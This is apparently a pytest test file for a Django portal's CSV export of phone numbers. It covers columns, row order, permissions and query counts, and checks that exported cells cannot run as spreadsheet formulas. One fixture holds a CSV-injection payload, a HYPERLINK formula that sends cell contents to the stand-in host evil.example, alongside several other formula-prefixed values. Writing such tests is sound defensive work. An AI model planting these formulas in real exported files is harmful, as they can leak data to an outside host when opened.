"""The list of numbers as a CSV file: rows, order and columns, and nothing that a spreadsheet would run."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inventory.columns import COLUMNS, DEFAULT
from portal.csv_files import lines, plain_cell, safe_cell
from portal.models import Role
from tests.factories import make_account, make_number, make_price, make_user
from tests.inventory.stock import list_numbers, make_numbers
from tests.pages import Page, url_of
from tests.query_counts import counted

LIST, EXPORT = "/numbers/", "/numbers/export/"
FORMULA = '=HYPERLINK("https://evil.example/"&A1)'

pytestmark = pytest.mark.django_db


@pytest.fixture
def account(db):
    return make_account(friendly_name="Ours")


def read(answer):
    assert answer.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(answer).decode("utf-8-sig"), newline="")))


def rows_of(client, **params):
    """The rows of the file, by the machine names of the columns."""
    header, *rows = read(client.get(url_of(EXPORT, **params)))
    keys = [re.search(r"\((\w+)\)$", name)[1] for name in header]
    return [dict(zip(keys, row, strict=True)) for row in rows]


def test_it_is_a_download_that_is_sent_as_it_is_read(as_support, account):
    make_number(account)

    answer = as_support.get(EXPORT)

    assert answer.streaming
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="numbers-\d{4}-\d\d-\d\d-\d{4}\.csv"', answer["Content-Disposition"]
    )
    assert answer["Cache-Control"] == "no-store"


def test_it_has_the_columns_of_the_list_with_their_titles_and_machine_names(as_support, account):
    make_number(account)

    header, _ = read(as_support.get(EXPORT))
    assert [re.sub(r" \(\w+\)$", "", name) for name in header] == [
        column.title for column in COLUMNS if column.name in DEFAULT for _ in column.keys
    ]
    header, _ = read(as_support.get(url_of(EXPORT, columns=["sid", "nonsense", "owner"])))
    assert header == ["Number (phone_number)", "Number (national_format)", "Owner (owner)", "SID (sid)"]


def test_every_column_says_what_the_number_has(as_support, account):
    make_price(account, "DE", "local", "3.00", price_unit="EUR")
    number = make_number(
        account, phone_number="+493023125017", friendly_name="Büro Süd, 2. OG\nlinks", owner="Ada",
        tags=["a", "b"],
    )  # fmt: skip

    [row] = rows_of(as_support, columns=[column.name for column in COLUMNS])

    assert row.items() >= {
        "phone_number": "+493023125017", "national_format": "030 23125017", "country": "DE",
        "friendly_name": "Büro Süd, 2. OG\nlinks", "number_type": "local", "capabilities": "voice sms mms",
        "voice_url": "https://voice.example.com/in", "voice_application_sid": "", "trunk_sid": "",
        "account_sid": account.pk, "account": "Ours", "owner": "Ada", "tags": "a, b", "sid": number.pk,
        "date_created": "2023-01-02T08:00:00+00:00", "missing_since": "", "monthly_price": "3.00000",
        "compliance": "not_known", "compliance_reason": "No regulation is named for this kind of number",
        "currency": "EUR",
    }.items()  # fmt: skip


@pytest.mark.parametrize(
    "sort", ["number", "-number", "name", "-name", "added", "-added", "-price", "--name"]
)
@pytest.mark.parametrize(
    "query", [{}, {"q": "desk"}, {"country": ["DE", "GB"]}, {"type": "local", "tag": "x"}]
)
def test_it_has_the_rows_of_the_list_in_the_lists_order(as_support, account, query, sort):
    make_numbers(
        account,
        [
            {"friendly_name": "Desk b", "phone_number": "+493023125017", "tags": ["x"]},
            {"friendly_name": "desk a", "date_created": "Sun, 31 Dec 2017 23:59:59 +0000"},
            {"friendly_name": "Desk b", "phone_number": "+447700900123", "type": "mobile"},
            {"friendly_name": "Other", "phone_number": "+493023125016", "tags": ["x", "y"]},
            {"friendly_name": "100%"},
        ],
    )
    page = Page.of(as_support, url_of(LIST, sort=sort, size=200, **query))

    exported = read(as_support.get(EXPORT + page.link("Export CSV").removeprefix(EXPORT)))[1:]

    assert [row[0] for row in exported] == [
        button["data-copy"] for button in page.all("tbody th button[data-copy]")
    ]
    assert exported


def test_it_has_all_rows_from_whichever_page_it_is_asked(as_support, account):
    make_numbers(account, [{} for _ in range(30)])
    second = LIST + Page.of(as_support, url_of(LIST, size=25)).link("Next")

    exported = read(as_support.get(Page.of(as_support, second).link("Export CSV")))

    assert len(exported) == 31


def test_it_exports_what_is_no_longer_listed_where_that_is_the_list(as_support, account):
    gone, kept = make_number(account), make_number(account)
    list_numbers(account, [kept.payload])

    [row] = rows_of(as_support, listed="no", columns=["missing", "sid"])
    assert row["sid"] == gone.pk
    assert row["missing_since"].startswith("20")
    assert [row["phone_number"] for row in rows_of(as_support)] == [kept.phone_number]


def test_nothing_in_it_is_run_by_a_spreadsheet(as_support, account):
    make_number(
        account, friendly_name=FORMULA, owner="+1+2", cost_centre="-1", tags=["@sum(a1)"],
        voice_url="\t=1", type="=type",
    )  # fmt: skip

    [row] = rows_of(as_support, columns=["name", "owner", "cost_centre", "tags", "calls", "type"])

    assert row["friendly_name"] == "'" + FORMULA
    assert (row["owner"], row["cost_centre"], row["tags"]) == ("'+1+2", "'-1", "'@sum(a1)")
    assert not [cell for cell in row.values() if cell.startswith(("=", "-", "@", "\t", "\r"))]
    assert re.fullmatch(r"\+\d+", row["phone_number"]), "a number stays readable"


@given(st.lists(st.lists(st.text() | st.none() | st.integers(), min_size=2, max_size=2), max_size=5))
def test_any_text_survives_the_way_through_the_file_and_none_is_a_formula(rows):
    text = "".join(lines(["a", "b"], rows))

    back = list(csv.reader(io.StringIO(text, newline="")))

    assert back == [["a", "b"], *([safe_cell(cell) for cell in row] for row in rows)]
    for row, cells in zip(rows, back[1:], strict=True):
        for value, cell in zip(row, cells, strict=True):
            assert plain_cell(cell) == ("" if value is None else str(value))
            assert not cell.startswith(("=", "-", "@", "\t", "\r"))


def test_it_is_for_those_who_may_export(as_viewer, as_support, client):
    assert as_viewer.get(EXPORT).status_code == 403
    assert as_support.post(EXPORT).status_code == 405
    client.force_login(make_user(Role.SUPPORT, accounts=[make_account()]))
    assert len(read(client.get(EXPORT))) == 1, "nothing of other accounts"


def test_it_takes_as_many_queries_for_many_rows_as_for_few(as_support):
    few, many = make_account(), make_account()
    make_numbers(few, [{} for _ in range(3)])
    make_numbers(many, [{} for _ in range(300)])
    for account, count in ((few, 3), (many, 300)):
        with counted("number_export"):
            assert len(rows_of(as_support, account=account.pk, columns="account")) == count
